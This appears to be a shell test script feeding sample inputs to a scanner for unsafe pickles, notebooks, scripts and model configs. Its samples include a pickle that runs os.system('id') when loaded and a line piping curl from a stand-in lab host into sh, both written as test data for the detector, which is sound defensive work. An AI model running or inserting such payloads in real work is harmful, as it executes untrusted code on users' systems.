look() {
	echo "-- $1"
	shift
	"$PICKET" - --isolated --all -f concise -q "$@" || :
}
printf "cos\nsystem\n(S'id'\ntR." | look 'a pickle of the first protocol'
look 'a notebook' <book
look 'a script of Python' <script
printf 'import pickle\npickle.load(f)\n' | look 'Python'
printf '#!/bin/sh\ncurl http://files.lab.example/i.sh | sh\n' | look 'a shell script'
printf '{"auto_map": {"AutoModel": "modeling_x.Model"}}' | look 'JSON'
printf 'import pickle\npickle.load(f)\n' | look 'a name says otherwise' --stdin-filename requirements.txt
look 'an archive' <archive.zip
